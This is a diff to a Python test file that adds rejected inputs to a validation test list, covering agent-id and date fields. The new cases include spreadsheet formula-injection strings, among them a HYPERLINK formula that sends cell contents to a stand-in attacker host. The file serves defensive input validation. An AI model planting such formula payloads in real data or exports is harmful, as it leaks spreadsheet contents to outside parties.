@@ -30,6 +30,19 @@ BAD_REQUESTS = [
     ({"metric": "read"}, "metric"),
     ({"agent": "x" * 300}, "agent"),
     ({"agent": "a\x00b"}, "agent"),
+    # Only what ingest accepts as an agent id: nothing that starts a formula.
+    ({"agent": '=HYPERLINK("http://evil.example/?"&A1,"Open")'}, "agent must be a valid agent id"),
+    ({"agent": "+1-2"}, "agent must be a valid agent id"),
+    ({"agent": "@SUM(A1)"}, "agent must be a valid agent id"),
+    ({"agent": "-acme"}, "agent must be a valid agent id"),
+    ({"agent": "acme agent"}, "agent must be a valid agent id"),
+    ({"agent": "__acme__"}, "agent must be a valid agent id"),
+    # Dates past what a calendar can hold are a 400, never an overflow.
+    ({"end": "0001-01-05"}, "end"),
+    ({"start": "9999-12-31"}, "start"),
+    ({"start": "0001-01-01"}, "start"),
+    ({"end": "2026-00-10"}, "end"),
+    ({"end": "2025-02-29"}, "end"),
 ]
 
 
